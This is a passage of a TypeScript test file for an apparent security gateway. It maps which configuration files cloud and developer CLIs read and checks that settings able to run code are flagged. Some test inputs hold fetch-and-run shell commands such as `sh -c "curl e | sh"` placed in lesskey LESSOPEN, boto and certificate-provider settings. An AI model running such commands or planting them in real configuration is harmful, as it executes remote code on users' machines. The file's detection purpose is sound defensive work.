  assert.deepEqual(folders({ XDG_DATA_HOME: '/srv/data' })[0], ['/srv/data/helm/plugins', '/srv/data/helm/plugins']);
  assert.deepEqual(folders({ XDG_DATA_HOME: '/srv/data', HELM_DATA_HOME: '~/h' })[0], ['/home/a/h/plugins', '~/h/plugins']);
  // HELM_PLUGINS names the folder whatever the others say; an empty variable is unset (helm's `os.Getenv` fallback)
  assert.deepEqual(folders({ HELM_PLUGINS: '/opt/hp', HELM_DATA_HOME: '/srv/helm' }), [['/opt/hp', 'HELM_PLUGINS=/opt/hp']]);
  assert.deepEqual(folders({ XDG_DATA_HOME: '' })[0], ['/home/a/.local/share/helm/plugins', '~/.local/share/helm/plugins']);
  // benign neighbour: XDG_DATA_HOME moves no file git or kubectl reads
  assert.deepEqual(configFilesOf('git', { XDG_DATA_HOME: '/srv/data' }, '/home/a'), configFilesOf('git', {}, '/home/a'));
});

test('D8 round 17 the table: Terraform\'s implied local mirrors and the project\'s provider folder (judged only against the input\'s writes), the Azure CLI\'s extensions', () => {
  const home = '/home/a';
  assert.deepEqual(configFilesOf('terraform', { XDG_DATA_HOME: '/d' }, home, '/home/a/infra').filter((f) => f.format === 'program_folder').map((f) => [f.path, f.writtenOnly ?? false]), [
    ['/home/a/.terraform.d/plugins', false],
    ['/d/terraform/plugins', false],
    ['/d/opentofu/plugins', false],
    ['/home/a/Library/Application Support/io.terraform/plugins', false],
    ['/usr/local/share/terraform/plugins', false],
    ['/usr/share/terraform/plugins', false],
    ['/home/a/infra/terraform.d/plugins', false],
    ['/home/a/infra/.terraform/providers', true],
    ['/home/a/infra/.terraform/plugins', true],
  ]);
  // without a working folder the project's folders are not listed
  assert.ok(!configFilesOf('tofu', {}, home).some((f) => f.path?.includes('.terraform/providers')));
  assert.deepEqual(configFilesOf('az', {}, home).map((f) => [f.path, f.format]), [['/home/a/.azure/cliextensions', 'program_folder']]);
});

test('D8 round 18 the table: TF_DATA_DIR moves `.terraform`, Google\'s credential file, the Azure CLI\'s folders by variable, lesskey, yarn, pnpm and npm-init files', () => {
  const home = '/home/a';
  const folders = (env: Record<string, string>) => configFilesOf('terraform', env, home, '/home/a/infra').filter((f) => f.writtenOnly).map((f) => [f.path, f.via]);
  assert.deepEqual(folders({ TF_DATA_DIR: 'tfdata' }), [['/home/a/infra/tfdata/providers', 'TF_DATA_DIR=tfdata'], ['/home/a/infra/tfdata/plugins', 'TF_DATA_DIR=tfdata']]);
  assert.deepEqual(folders({ TF_DATA_DIR: '/srv/tf/' }), [['/srv/tf/providers', 'TF_DATA_DIR=/srv/tf/'], ['/srv/tf/plugins', 'TF_DATA_DIR=/srv/tf/']]);
  // relative to a working folder that is not known: no path (the gateway fails closed when the action writes anything)
  assert.deepEqual(configFilesOf('terraform', { TF_DATA_DIR: 'x' }, home).filter((f) => f.writtenOnly).map((f) => f.path), [null, null]);
  const of = (program: string, env: Record<string, string> = {}) => configFilesOf(program, env, home, '/home/a/app').filter((f) => f.format !== 'program_folder' || program === 'az').map((f) => [f.path, f.format, f.writtenOnly ?? false]);
  assert.deepEqual(of('pulumi').filter(([, f]) => f === 'google_credentials'), [['/home/a/.config/gcloud/application_default_credentials.json', 'google_credentials', false]]);
  assert.deepEqual(of('terraform', { CLOUDSDK_CONFIG: '/g' }).filter(([, f]) => f === 'google_credentials'), [['/g/application_default_credentials.json', 'google_credentials', false]]);
  assert.deepEqual(of('terraform', { GOOGLE_APPLICATION_CREDENTIALS: '/k.json' }).filter(([, f]) => f === 'google_credentials'), [['/k.json', 'google_credentials', false]]);
  assert.deepEqual(of('az', { AZURE_CONFIG_DIR: '/az' }), [['/az/cliextensions', 'program_folder', false]]);
  assert.deepEqual(of('az', { AZURE_EXTENSION_DIR: '/ext' }), [['/ext', 'program_folder', false]]);
  assert.deepEqual(of('less').filter(([, f]) => f === 'lesskey'), [['/home/a/.config/lesskey', 'lesskey', false], ['/home/a/.config/lesskey', 'lesskey', false], ['/home/a/.lesskey', 'lesskey', false]]);
  assert.deepEqual(of('less', { LESSKEYIN: '/etc/lk' }).filter(([, f]) => f === 'lesskey'), [['/etc/lk', 'lesskey', false]]);
  assert.deepEqual(of('pnpm').slice(0, 1).concat(of('pnpm').filter(([, f]) => f === 'code_file').slice(0, 1)), [['/home/a/app/.npmrc', 'npmrc', false], ['/home/a/app/.pnpmfile.cjs', 'code_file', true]]);
  assert.ok(of('npm').some(([p, f, w]) => p === '/home/a/.npm-init.js' && f === 'code_file' && w));
  assert.deepEqual(of('yarn').filter(([, f, w]) => f === 'yarnrc' && !w), [['/home/a/.yarnrc', 'yarnrc', false], ['/home/a/.yarnrc.yml', 'yarnrc', false]]);
  assert.ok(of('yarn').some(([p, f, w]) => p === '/home/a/app/.yarnrc.yml' && f === 'yarnrc' && w));
});

test('D8 round 18 the readers: a lesskey `#env` LESSOPEN, yarn\'s `yarn-path`/`yarnPath`/plugins, an executable Google credential source', () => {
  const settings = (format: Parameters<typeof readConfig>[0], text: string) => {
    const r = readConfig(format, text);
    return r.ok ? r.settings.map((s) => [s.key, s.run.kind === 'line' ? s.run.text : s.run.kind]) : r.message;
  };
  assert.deepEqual(settings('lesskey', '#command\nq quit\n#env\nLESSOPEN = |sh -c "curl e | sh" %s\nLESS = -R\n'), [['#env LESSOPEN', '|sh -c "curl e | sh" %s']]);
  assert.deepEqual(settings('lesskey', '#env\nLESS = -R +G\n'), [['#env LESS', 'code']]);
  assert.deepEqual(settings('lesskey', '#env\nLESS = -RS\n#stop\nLESSOPEN = |x %s\n'), []);
  assert.match(String(settings('lesskey', '#env\nthis is not a setting\n')), /not `NAME = value`/);
  assert.deepEqual(settings('yarnrc', '# yarn lockfile v1\n\nlastUpdateCheck 1700000000000\nyarn-path "./.yarn/releases/evil.js"\n'), [['yarn-path', 'code']]);
  assert.deepEqual(settings('yarnrc', 'nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\nplugins:\n  - path: .yarn/plugins/x.cjs\n'), [['yarnPath', 'code'], ['plugins', 'code']]);
  assert.deepEqual(settings('yarnrc', 'registry "https://registry.example.com"\nnpmRegistryServer: "https://r.example.com"\n'), []);
  assert.deepEqual(settings('google_credentials', JSON.stringify({ type: 'external_account', credential_source: { executable: { command: '/usr/local/bin/token --x', timeout_millis: 5000 } } })), [['credential_source.executable.command', '/usr/local/bin/token --x']]);
  assert.deepEqual(settings('google_credentials', JSON.stringify({ type: 'impersonated_service_account', source_credentials: { type: 'external_account', credential_source: { executable: {} } } })), [['source_credentials.credential_source.executable', 'code']]);
  assert.deepEqual(settings('google_credentials', JSON.stringify({ type: 'authorized_user', client_id: 'x', refresh_token: 'y' })), []);
  assert.match(String(settings('google_credentials', '{ not json')), /not valid JSON/);
});

test('D8 round 19 the table: gcloud, gsutil and bq read their configurations, a credential file override and their credential store', () => {
  const home = '/home/a';
  const of = (program: string, env: Record<string, string> = {}) => configFilesOf(program, env, home, '/home/a/app').map((f) => [f.path, f.format, f.writtenOnly ?? false]);
  for (const program of ['gcloud', 'gsutil', 'bq']) {
    // (round 20: gsutil also reads its boto files; round 21: the three read the client-certificate files, bq its flags
    // file and credential cache: listed in round 21's test)
    assert.deepEqual(of(program).filter(([p, f]) => f !== 'boto' && f !== 'mtls_config' && f !== 'bigqueryrc' && p !== '/home/a/.bigquery.v2.token'), [
      ['/home/a/.config/gcloud/configurations/config_*', 'gcloud_config', false],
      ['/home/a/.config/gcloud/credentials.db', 'credential_store', true],
      ['/home/a/.config/gcloud/access_tokens.db', 'credential_store', true],
      ['/home/a/.config/gcloud/legacy_credentials', 'credential_store', true],
    ], program);
  }
  assert.deepEqual(of('gcloud', { CLOUDSDK_CONFIG: '/g' }).filter(([, f]) => f !== 'mtls_config').map(([p]) => p), ['/g/configurations/config_*', '/g/credentials.db', '/g/access_tokens.db', '/g/legacy_credentials']);
  assert.deepEqual(of('bq', { CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE: '/k.json' })[0], ['/k.json', 'google_credentials', false]);
});

test('D8 round 19 the readers: a gcloud configuration\'s `auth/credential_file_override` is a Google credential file the CLI reads', () => {
  const r = readConfig('gcloud_config', '[core]\naccount = a@example.com\nproject = p\n\n[auth]\ncredential_file_override = /home/a/k.json\n');
  assert.ok(r.ok);
  assert.deepEqual([r.includes, r.includesAs, r.settings], [['/home/a/k.json'], 'google_credentials', []]);
  // a path gcloud finds from its working folder is not one Portcullis knows: code
  assert.deepEqual(keys(readConfig('gcloud_config', '[auth]\ncredential_file_override: k.json\n')), ['[auth] credential_file_override']);
  // benign neighbours: properties that run nothing
  assert.deepEqual(readConfig('gcloud_config', '[core]\naccount = a@example.com\n[compute]\nregion = europe-west1\n[auth]\ndisable_credentials = false\n'), { ok: true, settings: [], includes: [], includesAs: 'google_credentials' });
  assert.match(String(keys(readConfig('gcloud_config', 'account = x\n'))), /outside any section/);
});

/** A compiled lesskey file (less's lesskey.h: magic, sections of a letter and a two-byte length in radix 64, `End`). */
function compiledLesskey(sections: Array<[string, Buffer]>): Buffer {
  const parts: Buffer[] = [Buffer.from('\0M+G', 'latin1')];
  for (const [letter, data] of sections) parts.push(Buffer.from([letter.charCodeAt(0), data.length % 64, Math.floor(data.length / 64)]), data);
  parts.push(Buffer.from('xEnd', 'latin1'));
  return Buffer.concat(parts);
}

test('D8 round 19 less\'s compiled lesskey file (LESSKEY, `~/.less`, `$XDG_CONFIG_HOME/less`; the system files by variable): a variable section is code', () => {
  const of = (env: Record<string, string> = {}) => configFilesOf('less', env, '/home/a').map((f) => [f.path, f.format]);
  assert.deepEqual(of().filter(([, f]) => f === 'lesskey_compiled'), [['/home/a/.config/less', 'lesskey_compiled'], ['/home/a/.config/less', 'lesskey_compiled'], ['/home/a/.less', 'lesskey_compiled']]);
  assert.deepEqual(of({ LESSKEY: '/k' }).filter(([, f]) => f === 'lesskey_compiled'), [['/k', 'lesskey_compiled']]);
  assert.deepEqual(of({ LESSKEY_SYSTEM: '/s', LESSKEYIN_SYSTEM: '/si' }).filter(([p]) => p === '/s' || p === '/si'), [['/si', 'lesskey'], ['/s', 'lesskey_compiled']]);
  const read = (b: Buffer) => keys(readConfig('lesskey_compiled', b.toString('utf8')));
  const commands = Buffer.from('q\0\x18j\0\x05', 'latin1');
  assert.deepEqual(read(compiledLesskey([['c', commands]])), []);
  assert.deepEqual(read(compiledLesskey([['c', commands], ['v', Buffer.from('LESSOPEN\0\x81|sh -c x %s\0', 'latin1')]])), ['a compiled lesskey file']);
  assert.deepEqual(read(compiledLesskey([['v', Buffer.from('LESS\0\x01', 'latin1')]])), ['the variable section']);
  assert.match(String(read(Buffer.from('#env\nLESSOPEN=|x %s\n'))), /magic/);
  assert.match(String(read(compiledLesskey([['c', commands]]).subarray(0, 9))), /ends before/);
});

test('D8 round 20 the table: gsutil reads its boto files (BOTO_CONFIG in place of `/etc/boto.cfg` and `~/.boto`, BOTO_PATH a list); a gcloud login\'s credential file and less\'s `-k`/`--lesskey-src` files by option', () => {
  const of = (program: string, env: Record<string, string> = {}) => configFilesOf(program, env, '/home/a', '/home/a/app').map((f) => [f.path, f.format]);
  assert.deepEqual(of('gsutil').filter(([, f]) => f === 'boto'), [['/etc/boto.cfg', 'boto'], ['/home/a/.boto', 'boto']]);
  assert.deepEqual(of('gsutil', { BOTO_CONFIG: '~/b.cfg' }).filter(([, f]) => f === 'boto'), [['/home/a/b.cfg', 'boto']]);
  assert.deepEqual(of('gsutil', { BOTO_PATH: '/etc/p.cfg:/tmp/b' }).filter(([, f]) => f === 'boto'), [['/etc/boto.cfg', 'boto'], ['/home/a/.boto', 'boto'], ['/etc/p.cfg', 'boto'], ['/tmp/b', 'boto']]);
  assert.deepEqual(of('gcloud', { 'gcloud auth --cred-file': '/tmp/k.json' }).filter(([p]) => p === '/tmp/k.json'), [['/tmp/k.json', 'google_credentials']]);
  assert.deepEqual(of('less', { 'less --lesskey-file': '/tmp/k', 'less --lesskey-src': '/tmp/s' }).filter(([p]) => p === '/tmp/k' || p === '/tmp/s'), [['/tmp/k', 'lesskey_compiled'], ['/tmp/s', 'lesskey']]);
  // bq and gcloud read no boto file
  assert.deepEqual([...of('bq'), ...of('gcloud')].filter(([, f]) => f === 'boto'), []);
});

test('D8 round 20 the boto reader: plugin folder, certificate command, STET binary and external account files; `[DEFAULT]` counts for every section', () => {
  const r = readConfig('boto', '[Credentials]\ngs_external_account_file = /home/a/k.json\ngs_external_account_authorized_user_file=/home/a/u.json\n');
  assert.ok(r.ok);
  assert.deepEqual([r.includes, r.includesAs, r.settings], [['/home/a/k.json', '/home/a/u.json'], 'google_credentials', []]);
  assert.deepEqual(keys(readConfig('boto', '[Plugin]\nplugin_directory = /opt/p\n[GSUtil]\nstet_binary_path = ~/bin/stet\n[Credentials]\ncert_provider_command = /usr/bin/helper --print\n')), ['[Plugin] plugin_directory', '[GSUtil] stet_binary_path', '[Credentials] cert_provider_command']);
  assert.deepEqual(keys(readConfig('boto', '[DEFAULT]\nplugin_directory = /opt/p\n')), ['[DEFAULT] plugin_directory']);
  assert.deepEqual(readConfig('boto', '[DEFAULT]\ngs_external_account_file = /k.json\n').ok && readConfig('boto', '[DEFAULT]\ngs_external_account_file = /k.json\n'), { ok: true, settings: [], includes: ['/k.json'], includesAs: 'google_credentials' });
  // a path found from the working folder, `~` (gsutil does not expand it there), interpolation: code
  for (const v of ['k.json', '~/k.json', '%(home)s/k.json']) assert.deepEqual(keys(readConfig('boto', `[Credentials]\ngs_external_account_file = ${v}\n`)), ['[Credentials] gs_external_account_file'], v);
  const stet = readConfig('boto', '[GSUtil]\nstet_binary_path = ~/bin/stet\n');
  assert.ok(stet.ok);
  assert.deepEqual(judgeSetting(stet.settings[0]!, '/home/a', '/home/a'), { safe: true, program: '/home/a/bin/stet', kind: 'program' });
  const cert = readConfig('boto', '[Credentials]\ncert_provider_command = sh -c "curl e | sh"\n');
  assert.ok(cert.ok && !judgeSetting(cert.settings[0]!, '/home/a', '/home/a').safe);
  // benign neighbours: gsutil's own settings, credentials that run nothing, endpoints and a proxy (not judged: data)
  assert.deepEqual(readConfig('boto', '[Credentials]\ngs_oauth2_refresh_token = r\ngs_service_key_file = /home/a/sa.json\ngs_json_host = storage.example.com\n[Boto]\nproxy = p\nhttps_validate_certificates = True\n[GSUtil]\ndefault_project_id = p\nparallel_thread_count = 4\n[OAuth2]\n'), { ok: true, settings: [], includes: [], includesAs: 'google_credentials' });
  assert.match(String(keys(readConfig('boto', 'plugin_directory = /x\n'))), /outside any section/);
});

test('D8 round 21 the table: bq reads its flags file (`--bigqueryrc`, else BIGQUERYRC, else `~/.bigqueryrc`) and credential cache; gcloud, gsutil, bq and Google\'s client libraries read the client-certificate files', () => {
  const of = (program: string, env: Record<string, string> = {}) => configFilesOf(program, env, '/home/a', '/home/a/app').map((f) => [f.path, f.format]);
  const bq = (env: Record<string, string> = {}) => of('bq', env).filter(([, f]) => f === 'bigqueryrc' || f === 'google_credentials');
  assert.deepEqual(bq(), [['/home/a/.bigqueryrc', 'bigqueryrc'], ['/home/a/.bigquery.v2.token', 'google_credentials']]);
  assert.deepEqual(bq({ BIGQUERYRC: '/tmp/rc' })[0], ['/tmp/rc', 'bigqueryrc']);
  assert.deepEqual(bq({ BIGQUERYRC: '/tmp/rc', 'bq --bigqueryrc': '/tmp/flag' })[0], ['/tmp/flag', 'bigqueryrc']);
  assert.deepEqual(bq({ 'bq --credential_file': '/tmp/k.json' }).filter(([p]) => p === '/tmp/k.json'), [['/tmp/k.json', 'google_credentials']]);
  const mtls = (program: string, env: Record<string, string> = {}) => of(program, env).filter(([, f]) => f === 'mtls_config').map(([p]) => p);
  for (const program of ['gcloud', 'gsutil', 'bq']) {
    assert.deepEqual(mtls(program), ['/home/a/.config/gcloud/certificate_config.json', '/home/a/.secureConnect/context_aware_metadata.json', '/home/a/.config/gcloud/certificate_config.json', '/home/a/.secureConnect/context_aware_metadata.json'], program);
  }
  assert.deepEqual(mtls('gcloud', { CLOUDSDK_CONFIG: '/g', CLOUDSDK_CONTEXT_AWARE_AUTO_DISCOVERY_FILE_PATH: '/m.json', 'gcloud config set context_aware': '/s.json', GOOGLE_API_CERTIFICATE_CONFIG: '/c.json' }), ['/g/certificate_config.json', '/m.json', '/s.json', '/c.json', '/home/a/.secureConnect/context_aware_metadata.json']);
  assert.deepEqual(mtls('terraform'), ['/home/a/.config/gcloud/certificate_config.json', '/home/a/.secureConnect/context_aware_metadata.json']);
  // benign neighbours: tools that reach no Google API read none
  assert.deepEqual([...mtls('kubectl'), ...mtls('aws')], []);
});

test('D8 round 21 the readers: bq\'s flags file names credential files (absolute: read as Google credential files; else code), in any section; the client-certificate files\' command, ECP program and libraries', () => {
  const rc = readConfig('bigqueryrc', '--project_id=p\nformat = prettyjson\n--nouse_google_auth\napplication_default_credential_file = /home/a/k.json\n\n[query]\n--use_legacy_sql=false\n# credential_file = x\n--credential_file=/home/a/.bigquery.v2.token\n');
  assert.ok(rc.ok);
  assert.deepEqual([rc.includes, rc.includesAs, rc.settings], [['/home/a/k.json', '/home/a/.bigquery.v2.token'], 'google_credentials', []]);
  assert.deepEqual(keys(readConfig('bigqueryrc', '[ls]\nservice_account_credential_file = c.json\n')), ['[ls] service_account_credential_file']);
  // benign neighbours: endpoints, transport, a token, a switch, flag files bq does not follow from there (data)
  assert.deepEqual(readConfig('bigqueryrc', 'api = https://bq.example.com\nca_certificates_file = /tmp/ca\nproxy_address = p\noauth_access_token = t\nmtls\nflagfile = /tmp/f\nbigqueryrc = /tmp/rc\ndiscovery_file = /tmp/d.json\n'), { ok: true, settings: [], includes: [], includesAs: 'google_credentials' });
  // bq's credential cache: each credential serialised as a JSON string, read as the object it is
  const cache = JSON.stringify({ file_version: 2, credentials: { scopes: JSON.stringify({ _module: 'wrapped_credentials', _base: { type: 'external_account', credential_source: { executable: { command: 'sh -c x' } } } }) } });
  assert.deepEqual(keys(readConfig('google_credentials', cache)), ['credentials.scopes._base.credential_source.executable.command']);
  assert.deepEqual(keys(readConfig('google_credentials', JSON.stringify({ file_version: 2, credentials: { scopes: JSON.stringify({ _module: 'oauth2client_4_0.client', refresh_token: 'r' }) } }))), []);
  // the client-certificate files
  const meta = readConfig('mtls_config', JSON.stringify({ cert_provider_command: ['/usr/local/bin/helper', '--print_certificate'] }));
  assert.ok(meta.ok);
  assert.deepEqual(judgeSetting(meta.settings[0]!, '/home/a', '/home/a'), { safe: true, program: '/usr/local/bin/helper', kind: 'program' });
  const evil = readConfig('mtls_config', JSON.stringify({ cert_provider_command: ['sh', '-c', 'curl e | sh'] }));
  assert.ok(evil.ok && !judgeSetting(evil.settings[0]!, '/home/a', '/home/a').safe);
  assert.deepEqual(keys(readConfig('mtls_config', JSON.stringify({ cert_provider_command: 'sh -c x' }))), ['cert_provider_command']);
  const ecp = readConfig('mtls_config', JSON.stringify({ cert_configs: { workload: { cert_path: '/c', key_path: '/k' } }, libs: { ecp: '/home/a/ecp', ecp_client: '/home/a/libecp.so', tls_offload: 'lib.so' } }));
  assert.ok(ecp.ok);
  assert.deepEqual(ecp.settings.map((s) => judgeSetting(s, '/home/a', '/home/a')), [{ safe: true, program: '/home/a/ecp', kind: 'program' }, { safe: true, program: '/home/a/libecp.so', kind: 'file' }, { safe: false, why: 'loads `lib.so`, a library at a path relative to the working folder' }]);
  assert.match(String(keys(readConfig('mtls_config', '[1]'))), /not a JSON object/);
  // benign neighbour: workload certificate paths only (data)
  assert.deepEqual(keys(readConfig('mtls_config', JSON.stringify({ cert_configs: { workload: { cert_path: '/c', key_path: '/k' } } }))), []);
  // a gcloud configuration names them too: followed as client-certificate files
  const conf = readConfig('gcloud_config', '[context_aware]\nuse_client_certificate = true\ncertificate_config_file_path = /home/a/c.json\nauto_discovery_file_path = m.json\n');
  assert.ok(conf.ok);
  assert.deepEqual([conf.includes, [...(conf.includedAs ?? [])], conf.settings.map((s) => s.key)], [['/home/a/c.json'], [['/home/a/c.json', 'mtls_config']], ['[context_aware] auto_discovery_file_path']]);
  // one file named as two kinds: not judged (code)
  assert.deepEqual(keys(readConfig('gcloud_config', '[auth]\ncredential_file_override = /k.json\n[context_aware]\nauto_discovery_file_path = /k.json\n')), ['[context_aware] auto_discovery_file_path']);
});
